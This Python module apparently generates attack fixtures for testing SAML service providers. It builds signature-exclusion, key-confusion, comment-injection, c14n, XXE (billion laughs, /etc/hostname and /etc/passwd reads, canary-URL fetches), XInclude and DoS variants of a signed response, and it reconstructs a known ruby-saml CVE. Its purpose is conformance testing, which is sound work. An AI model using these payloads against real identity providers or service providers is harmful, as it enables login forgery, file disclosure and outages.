"""Builders of the exclusion, key-confusion, comment, c14n, parser and DoS variants
(saml-attacks.md §3.1–§3.5): byte edits of a freshly signed baseline, or a signature by a key
no SP trusts."""

from __future__ import annotations

import base64
import copy
import hashlib

import xmlsec
from lxml import etree

from idp.saml.constants import NS, qname
from idp.saml.xmlparse import parse_xml
from sp_fixtures.attacks.catalogue import Attack
from sp_fixtures.attacks.errors import GeneratorError
from sp_fixtures.attacks.surgery import (
    Document,
    Node,
    Splice,
    after,
    append,
    before,
    delete,
    escape,
    insert_text,
    replace,
    set_attribute,
    set_text,
)
from sp_fixtures.attacks.workshop import (
    EVIL_SUFFIX,
    Built,
    Identity,
    Workshop,
    builder,
    role_nodes,
)
from sp_fixtures.attacks.wrapping import SAMLP_EXTENSIONS, wrap

DS_DECLARATION = f'xmlns:ds="{NS.DS}"'.encode()
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
C14N_WITH_COMMENTS = b"http://www.w3.org/2001/10/xml-exc-c14n#WithComments"
C14N_INCLUSIVE = b"http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
MD5_DIGEST = b"http://www.w3.org/2001/04/xmldsig-more#md5"
RSA_MD5 = b"http://www.w3.org/2001/04/xmldsig-more#rsa-md5"


def _assertion(doc: Document) -> Node:
    return doc.root.find((NS.SAML, "Assertion"))


def _signature(node: Node) -> Node:
    return node.find((NS.DS, "Signature"))


def _reference(node: Node) -> Node:
    return _signature(node).find((NS.DS, "SignedInfo"), (NS.DS, "Reference"))


def _name_id(doc: Document) -> Node:
    return _assertion(doc).find((NS.SAML, "Subject"), (NS.SAML, "NameID"))


def _built(w: Workshop, attack: Attack, document: bytes, seen: Identity | None = None) -> Built:
    return Built(documents=(document,), seen_if_accepted=seen or w.seen(attack))


def _evil(w: Workshop, doc: Document, *more: Splice) -> bytes:
    """Return ``doc`` with the evil values in its assertion and ``more`` edits."""
    return doc.render([*w.evil_splices(doc, _assertion(doc)), *more])


def assertion_digest(document: bytes) -> bytes:
    """Return the base64 SHA-256 digest of the assertion as the enveloped reference sees it."""
    assertion = parse_xml(document).find(qname(NS.SAML, "Assertion"))
    if assertion is None:
        raise GeneratorError("no assertion to digest")
    unsigned = copy.deepcopy(assertion)
    for signature in unsigned.findall(qname(NS.DS, "Signature")):
        unsigned.remove(signature)
    canonical = etree.tostring(unsigned, method="c14n", exclusive=True, with_comments=False)
    return base64.b64encode(hashlib.sha256(canonical).digest())


# --- signature exclusion --------------------------------------------------------------------


@builder(
    "strip-all-signatures",
    "strip-assertion-signature",
    "strip-response-signature",
    "strip-assertion-signature-keep-response",
)
def strip(w: Workshop, attack: Attack) -> Built:
    """Remove signatures as the id says and put the evil values in."""
    doc = w.baseline(attack.layout)
    assertion = _assertion(doc)
    edits: list[Splice] = []
    if attack.id != "strip-response-signature":
        edits.append(delete(_signature(assertion)))
    if attack.id in ("strip-all-signatures", "strip-response-signature"):
        edits.append(delete(_signature(doc.root)))
    return _built(w, attack, _evil(w, doc, *edits))


@builder("empty-signature-value", "signature-without-reference", "reference-uri-empty")
def hollow_signature(w: Workshop, attack: Attack) -> Built:
    """Hollow the assertion signature out and put the evil values in."""
    doc = w.baseline("assertion")
    signature = _signature(_assertion(doc))
    edit = {
        "empty-signature-value": lambda: set_text(signature.find((NS.DS, "SignatureValue")), b""),
        "signature-without-reference": lambda: delete(_reference(_assertion(doc))),
        "reference-uri-empty": lambda: set_attribute(_reference(_assertion(doc)), "URI", b""),
    }[attack.id]()
    return _built(w, attack, _evil(w, doc, edit))


# --- key confusion --------------------------------------------------------------------------


@builder(
    "key-attacker-certificate",
    "key-cloned-certificate",
    "key-claims-pinned-certificate",
    "key-value-injected",
)
def foreign_key(w: Workshop, attack: Attack) -> Built:
    """Sign the evil assertion with a key no SP trusts, presenting it as the id says."""
    key = w.attacker_key
    if attack.id == "key-cloned-certificate":
        from sp_fixtures.attacks.generator import cloned_key

        key = cloned_key(w.idp.signing_key, key)
    doc = w.issue("assertion", evil=True, key=key)
    x509_data = _signature(_assertion(doc)).find((NS.DS, "KeyInfo"), (NS.DS, "X509Data"))
    pinned = wrap(
        w.idp.signing_key.cert_base64.encode(), (b"<ds:X509Certificate>", b"</ds:X509Certificate>")
    )
    if attack.id == "key-claims-pinned-certificate":
        return _built(w, attack, doc.render([set_text(x509_data, pinned)]))
    if attack.id == "key-value-injected":
        key_value = _rsa_key_value(key.cert_pem)
        return _built(
            w, attack, doc.render([before(x509_data, key_value), set_text(x509_data, pinned)])
        )
    return _built(w, attack, doc.data)


def _rsa_key_value(cert_pem: bytes) -> bytes:
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import rsa

    public = x509.load_pem_x509_certificate(cert_pem).public_key()
    assert isinstance(public, rsa.RSAPublicKey)  # noqa: S101 - we generated it
    numbers = public.public_numbers()

    def b64(number: int) -> bytes:
        return base64.b64encode(number.to_bytes((number.bit_length() + 7) // 8, "big"))

    return (
        b"<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>"
        + b64(numbers.n)
        + b"</ds:Modulus><ds:Exponent>"
        + b64(numbers.e)
        + b"</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>"
    )


@builder("key-hmac-with-public-certificate", "key-hmac-truncated")
def hmac_confusion(w: Workshop, attack: Attack) -> Built:
    """Sign the evil assertion with HMAC-SHA256 keyed with the IdP's public certificate."""
    cert_pem = w.idp.signing_key.cert_pem

    def sign_hmac(response: etree._Element) -> None:
        assertion = response.find(qname(NS.SAML, "Assertion"))
        assert assertion is not None  # noqa: S101 - checked by Workshop
        signature = xmlsec.template.create(
            assertion,
            xmlsec.constants.TransformExclC14N,
            xmlsec.constants.TransformHmacSha256,
            ns="ds",
        )
        issuer = assertion.find(qname(NS.SAML, "Issuer"))
        if issuer is not None:
            issuer.addnext(signature)
        else:
            assertion.insert(0, signature)
        reference = xmlsec.template.add_reference(
            signature, xmlsec.constants.TransformSha256, uri=f"#{assertion.get('ID')}"
        )
        xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
        xmlsec.template.add_transform(reference, xmlsec.constants.TransformExclC14N)
        xmlsec.tree.add_ids(assertion, ["ID"])
        context = xmlsec.SignatureContext()
        context.key = xmlsec.Key.from_binary_data(xmlsec.constants.KeyDataHmac, cert_pem)
        context.sign(signature)

    doc = w.issue("assertion", evil=True, signer=sign_hmac)
    if attack.id == "key-hmac-truncated":
        method = _signature(_assertion(doc)).find((NS.DS, "SignedInfo"), (NS.DS, "SignatureMethod"))
        truncated = (
            b'<ds:SignatureMethod Algorithm="'
            + doc.attribute(method, "Algorithm").encode()
            + (b'"><ds:HMACOutputLength>40</ds:HMACOutputLength></ds:SignatureMethod>')
        )
        return _built(w, attack, doc.render([replace(method, truncated)]))
    return _built(w, attack, doc.data)


# --- comments and text nodes ----------------------------------------------------------------


@builder("comment-in-name-id", "comment-in-name-id-response-signed")
def comment_in_name_id(w: Workshop, attack: Attack) -> Built:
    """Have the IdP sign ``<evil>.attacker.invalid``; split it after ``<evil>`` with a comment."""
    signed_value = w.evil.name_id + EVIL_SUFFIX

    def name(root: etree._Element) -> None:
        w.put_evil(root, name_id=signed_value, role_pair=w.genuine.role_pair)

    doc = w.issue(attack.layout, edit=name)
    cut = insert_text(_name_id(doc), len(escape(w.evil.name_id)), b"<!---->")
    return _built(w, attack, doc.render([cut]))


@builder("comment-in-role")
def comment_in_role(w: Workshop, attack: Attack) -> Built:
    """Have the IdP sign ``<evil pair>.attacker``; split it before ``.attacker``."""
    pair = w.evil.role_pair or ""

    def role(root: etree._Element) -> None:
        w.put_evil(root, name_id=w.genuine.name_id, role_pair=pair + ".attacker")

    doc = w.issue("assertion", edit=role)
    values = role_nodes(doc, _assertion(doc))
    if not values:
        raise GeneratorError("the user's response has no Role attribute to inject into")
    return _built(w, attack, doc.render([insert_text(values[0], len(escape(pair)), b"<!---->")]))


@builder("comment-in-audience")
def comment_in_audience(w: Workshop, attack: Attack) -> Built:
    """Have the IdP sign ``<audience>.attacker.invalid``; split it after ``<audience>``."""
    audiences: list[str] = []

    def audience(root: etree._Element) -> None:
        first = root.find(f".//{qname(NS.SAML, 'Audience')}")
        if first is None or not first.text:
            raise GeneratorError("the response has no Audience to inject into")
        audiences.append(first.text)
        first.text += EVIL_SUFFIX

    doc = w.issue("assertion", evil=True, edit=audience)
    node = _assertion(doc).descendants(NS.SAML, "Audience")[0]
    return _built(w, attack, doc.render([insert_text(node, len(escape(audiences[0])), b"<!---->")]))


@builder("cdata-in-name-id", "processing-instruction-in-name-id", "element-in-name-id")
def markup_in_name_id(w: Workshop, attack: Attack) -> Built:
    """Add CDATA, a PI or an element to the signed NameID after signing."""
    doc = w.baseline("assertion")
    name_id = _name_id(doc)
    if attack.id == "cdata-in-name-id":
        seen = Identity(w.genuine.name_id + ".evil.invalid", w.genuine.role_pair)
        return _built(
            w,
            attack,
            doc.render(
                [append(name_id, b"<![CDATA[.evil.invalid]]>")],
            ),
            seen,
        )
    inserted = b"<?evil pi?>" if attack.id.startswith("processing") else b"<saml:Evil/>"
    offset = min(3, name_id.content_end - name_id.content_start)
    return _built(w, attack, doc.render([insert_text(name_id, offset, inserted)]))


# --- canonicalization and SignedInfo tricks -------------------------------------------------


def _evil_digest(w: Workshop, doc: Document) -> bytes:
    return assertion_digest(_evil(w, doc))


@builder(
    "comment-in-digest-value",
    "two-signedinfo",
    "signedinfo-wrapped-in-keyinfo",
    "injected-digest-value",
)
def digest_tricks(w: Workshop, attack: Attack) -> Built:
    """Offer the evil assertion's digest where a careless reader would pick it up."""
    doc = w.baseline("assertion")
    assertion = _assertion(doc)
    signature = _signature(assertion)
    signed_info = signature.find((NS.DS, "SignedInfo"))
    digest = _reference(assertion).find((NS.DS, "DigestValue"))
    evil_digest = _evil_digest(w, doc)
    if attack.id == "comment-in-digest-value":
        trick = insert_text(digest, 0, b"<!--" + evil_digest + b"-->")
    elif attack.id == "injected-digest-value":
        uri = b"#" + doc.attribute(assertion, "ID").encode()
        reference = (
            b"<ds:Reference "
            + DS_DECLARATION
            + b' URI="'
            + uri
            + b'"><ds:DigestValue>'
            + evil_digest
            + b"</ds:DigestValue></ds:Reference>"
        )
        trick = after(doc.root.find((NS.SAML, "Issuer")), wrap(reference, SAMLP_EXTENSIONS))
    else:
        forged = doc.render_node(signed_info, [set_text(digest, evil_digest)])
        trick = (
            before(signed_info, forged)
            if attack.id == "two-signedinfo"
            else append(signature.find((NS.DS, "KeyInfo")), forged)
        )
    return _built(w, attack, _evil(w, doc, trick))


@builder("void-canonicalization")
def void_canonicalization(w: Workshop, attack: Attack) -> Built:
    """Add a namespace URI that breaks c14n and claim the digest of the empty string."""
    doc = w.baseline("assertion")
    assertion = _assertion(doc)
    tag_end = assertion.start + len(b"<saml:Assertion")
    empty = base64.b64encode(hashlib.sha256(b"").digest())
    edits = [
        Splice(tag_end, tag_end, ' xmlns:example="http://example.com\u0080"'.encode()),
        set_text(_reference(assertion).find((NS.DS, "DigestValue")), empty),
    ]
    return _built(w, attack, _evil(w, doc, *edits))


@builder("c14n-with-comments", "c14n-inclusive", "md5-digest-method", "rsa-md5-signature-method")
def method_swap(w: Workshop, attack: Attack) -> Built:
    """Swap a canonicalization, digest or signature method URI; put the evil values in."""
    doc = w.baseline("assertion")
    signed_info = _signature(_assertion(doc)).find((NS.DS, "SignedInfo"))
    target, uri = {
        "c14n-with-comments": (
            signed_info.find((NS.DS, "CanonicalizationMethod")),
            C14N_WITH_COMMENTS,
        ),
        "c14n-inclusive": (signed_info.find((NS.DS, "CanonicalizationMethod")), C14N_INCLUSIVE),
        "md5-digest-method": (
            signed_info.find((NS.DS, "Reference"), (NS.DS, "DigestMethod")),
            MD5_DIGEST,
        ),
        "rsa-md5-signature-method": (signed_info.find((NS.DS, "SignatureMethod")), RSA_MD5),
    }[attack.id]
    return _built(w, attack, _evil(w, doc, set_attribute(target, "Algorithm", uri)))


@builder("transform-xslt", "transform-xpath")
def hostile_transform(w: Workshop, attack: Attack) -> Built:
    """Put an XSLT or XPath transform into the Reference."""
    doc = w.baseline("assertion")
    transforms = _reference(_assertion(doc)).find((NS.DS, "Transforms")).children
    if attack.id == "transform-xslt":
        stylesheet = (
            f'<ds:Transform Algorithm="{XSLT}"><xsl:stylesheet version="2.0" '
            'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
            "<xsl:value-of select=\"unparsed-text('/etc/passwd')\"/></xsl:template>"
            "</xsl:stylesheet></ds:Transform>"
        ).encode()
        return _built(w, attack, doc.render([replace(transforms[-1], stylesheet)]))
    xpath = (
        f'<ds:Transform Algorithm="{XPATH}"><ds:XPath>not(ancestor-or-self::ds:Signature)'
        "</ds:XPath></ds:Transform>"
    ).encode()
    return _built(w, attack, doc.render([after(transforms[0], xpath)]))


# --- DOCTYPE, entities, XInclude ------------------------------------------------------------


def _with_doctype(data: bytes, doctype: bytes) -> bytes:
    declaration, mark, body = data.partition(b"?>")
    if not mark:
        return doctype + data
    return declaration + mark + b"\n" + doctype + body.lstrip(b"\n")


@builder("doctype-attlist-namespace", "entity-defined-id")
def doctype_tricks(w: Workshop, attack: Attack) -> Built:
    """Prepend a DOCTYPE that changes namespaces or defines the Response ID."""
    doc = w.baseline("assertion")
    if attack.id == "entity-defined-id":
        response_id = doc.attribute(doc.root, "ID").encode()
        doctype = b'<!DOCTYPE samlp:Response [<!ENTITY idViaEntity "' + response_id + b'">]>'
        edits = [set_attribute(doc.root, "ID", b"&idViaEntity;")]
    else:
        doctype = (
            b'<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED "'
            + str(NS.DS).encode()
            + b'">]>'
        )
        edits = []
    return _built(w, attack, _with_doctype(_evil(w, doc, *edits), doctype))


@builder("doctype-comment-roundtrip")
def doctype_roundtrip(w: Workshop, attack: Attack) -> Built:
    """Build ruby-saml CVE-2025-25291's document: evil and genuine split by a DOCTYPE quirk."""
    doc = w.baseline("assertion")
    evil = _evil(w, doc)
    end_tag = b"</" + doc.root.qname.encode() + b">"
    body = evil.partition(b"?>")[2].lstrip(b"\n")
    original = doc.bytes_of(doc.root)
    crafted = body[: -len(end_tag)] + b"<![CDATA[-->" + original + b"<!--]]>-->" + end_tag
    return _built(
        w,
        attack,
        _with_doctype(
            b"<?xml version='1.0' encoding='UTF-8'?>" + crafted,
            b"<!DOCTYPE response SYSTEM 'x\"><!--'>",
        ),
    )


@builder(
    "xxe-billion-laughs",
    "xxe-quadratic-blowup",
    "xxe-external-file",
    "xxe-parameter-entity-oob",
    "xxe-external-dtd",
)
def entities(w: Workshop, attack: Attack) -> Built:
    """Prepend a hostile DOCTYPE and reference its entity in the NameID."""
    doc = w.baseline("assertion")
    canary = f"{w.canary_url}/{attack.id}".encode()
    name_id = _name_id(doc)
    reference: bytes | None = b"&x;"
    if attack.id == "xxe-billion-laughs":
        levels = [b'<!ENTITY l0 "lol">'] + [
            b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10)
        ]
        doctype = b"<!DOCTYPE samlp:Response [" + b"".join(levels) + b"]>"
        reference = b"&l9;"
    elif attack.id == "xxe-quadratic-blowup":
        doctype = b'<!DOCTYPE samlp:Response [<!ENTITY x "' + b"A" * 5000 + b'">]>'
        reference = b"&x;" * 5000
    elif attack.id == "xxe-external-file":
        doctype = b'<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    elif attack.id == "xxe-parameter-entity-oob":
        doctype = b'<!DOCTYPE samlp:Response [<!ENTITY % x SYSTEM "' + canary + b'"> %x;]>'
        reference = None
    else:
        doctype = b'<!DOCTYPE samlp:Response SYSTEM "' + canary + b'">'
        reference = None
    edits = [set_text(name_id, reference)] if reference is not None else []
    return _built(w, attack, _with_doctype(doc.render(edits), doctype))


@builder("xinclude-in-name-id")
def xinclude(w: Workshop, attack: Attack) -> Built:
    """Replace the NameID's text with an XInclude of the canary URL."""
    doc = w.baseline("assertion")
    include = (
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="'
        + f"{w.canary_url}/{attack.id}".encode()
        + b'" parse="text"/>'
    )
    return _built(w, attack, doc.render([set_text(_name_id(doc), include)]))


# --- denial of service ----------------------------------------------------------------------


@builder("deep-nesting", "oversized-message")
def oversized(w: Workshop, attack: Attack) -> Built:
    """Add deeply nested or very large content in an unsigned samlp:Extensions."""
    doc = w.baseline("assertion")
    if attack.id == "deep-nesting":
        padding = b"<d>" * 5000 + b"</d>" * 5000
    else:
        padding = b"<pad>" + b"A" * 120_000 + b"</pad>"
    return _built(
        w,
        attack,
        doc.render([after(doc.root.find((NS.SAML, "Issuer")), wrap(padding, SAMLP_EXTENSIONS))]),
    )
